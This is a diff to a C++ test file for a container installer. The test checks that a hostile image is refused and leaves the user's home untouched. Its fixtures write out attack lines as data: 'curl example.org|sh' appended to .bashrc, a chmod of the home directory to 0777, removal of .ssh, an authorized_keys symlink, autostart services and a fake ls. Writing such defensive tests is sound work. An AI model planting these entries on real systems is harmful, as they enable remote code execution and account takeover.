@@ -162,25 +162,26 @@ TEST_F(InstallTrust, Finding3DotDotAndEditedRecordsNeverReachYourFiles) {
 TEST_F(InstallTrust, Finding4ExportsActingOnTheHostNeedConsent) {
   const std::string hostile = image(
       "attack4",
-      {{"tmpfiles.template", "w+ %h/.bashrc - - - - curl example.org|sh\n"
-                             "Z %h 0777\n"
-                             "R %h/.ssh\n"
-                             "L+ %h/.ssh/authorized_keys - - - - /tmp/key\n"},
+      {{"tmpfiles.template", "w+ " + home() + "/.bashrc - - - - curl example.org|sh\n" +
+                                 "Z " + home() + " 0777\n" + "R " + home() + "/.ssh\n" +
+                                 "L+ " + home() + "/.ssh/authorized_keys - - - - /tmp/key\n"},
        {"config.json.template", config_with_bind("/", "rw")},
        {"service.template", "[Install]\nWantedBy=default.target\n"},
        {"hostfs/etc/systemd/user/x.service", "[Service]\nExecStart=/bin/sh -c 'echo owned'\n"},
        {"hostfs/etc/systemd/user/default.target.wants/x.service", "<link:../x.service>"},
        {"hostfs/etc/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c owned\n"},
        {"hostfs/etc/box/containers/evil.yaml", "rootfs: /\ncommand: [sh]\n"},
-       {"hostfs/usr/bin/ls", "#!/bin/sh\necho owned\n"},
-       {"hostfs/usr/share/x/fifo", "<fifo>"}});
+       {"hostfs/usr/bin/ls", "#!/bin/sh\necho owned\n"}});
   ASSERT_FALSE(hostile.empty());
   const std::string config = home() + "/.config";
   const std::vector<std::string> refusals = {
-      "tmpfiles.template:1: 'w+ %h/.bashrc - - - - curl example.org|sh': specifiers ('%')",
-      "tmpfiles.template:2: 'Z %h 0777': specifiers ('%')",
-      "tmpfiles.template:3: 'R %h/.ssh': specifiers ('%')",
-      "tmpfiles.template:4: 'L+ %h/.ssh/authorized_keys - - - - /tmp/key': specifiers ('%')",
+      "tmpfiles.template:1: 'w+ " + home() +
+          "/.bashrc - - - - curl example.org|sh': 'w+' writes into a file; an image may only "
+          "create directories (d, D, v, q, Q)",
+      "tmpfiles.template:2: 'Z " + home() + " 0777': 'Z' changes the mode and owner",
+      "tmpfiles.template:3: 'R " + home() + "/.ssh': 'R' removes files",
+      "tmpfiles.template:4: 'L+ " + home() +
+          "/.ssh/authorized_keys - - - - /tmp/key': 'L+' creates a symlink",
       "config.json.template: bind of host path '/' (read-write) to '/data': outside the box's "
       "own places; add --allow-bind / to allow it",
       "service.template: WantedBy= asks for 'autostart: login'",
@@ -195,9 +196,12 @@ TEST_F(InstallTrust, Finding4ExportsActingOnTheHostNeedConsent) {
           "/box/containers/evil.yaml: box definitions",
       "hostfs/usr/bin/ls -> " + home() + "/.local/bin/ls: " + home() +
           "/.local/bin is on PATH",
-      "hostfs/usr/share/x/fifo: a FIFO; only regular files and symlinks are installed",
   };
   auto check_nothing_changed = [&] {
+    // What systemd-tmpfiles does at the next login, done now: no line of
+    // the image's reached user-tmpfiles.d.
+    auto applied = run({"systemd-tmpfiles", "--user", "--create"});
+    EXPECT_EQ(applied.exit_code, 0) << applied.output;
     expect_users_files_untouched();
     for (const std::string f :
          {"/.config/systemd/user/x.service", "/.config/systemd/user/default.target.wants",
@@ -226,6 +230,20 @@ TEST_F(InstallTrust, Finding4ExportsActingOnTheHostNeedConsent) {
   auto plan = nlohmann::json::parse(json.output, nullptr, false);
   ASSERT_TRUE(plan.is_object()) << json.output;
   EXPECT_EQ(plan["refused"].size(), refusals.size()) << json.output;
+  check_nothing_changed();
+
+  // systemd-tmpfiles specifiers (%h) and a FIFO in hostfs: refused too.
+  const std::string odd = image("odd4", {{"tmpfiles.template", "w+ %h/.bashrc - - - - x\n"},
+                                         {"hostfs/usr/share/x/fifo", "<fifo>"}});
+  ASSERT_FALSE(odd.empty());
+  r = boxctl({"install", "--dry-run", odd, "trust4"});
+  EXPECT_EQ(r.exit_code, 1) << r.output;
+  EXPECT_TRUE(contains(r.output, "tmpfiles.template:1: 'w+ %h/.bashrc - - - - x': specifiers "
+                                 "('%'), escapes ('\\') and quotes are not allowed"))
+      << r.output;
+  EXPECT_TRUE(contains(r.output, "hostfs/usr/share/x/fifo: a FIFO; only regular files and "
+                                 "symlinks are installed"))
+      << r.output;
   check_nothing_changed();
 
   // With consent, for the named things only.
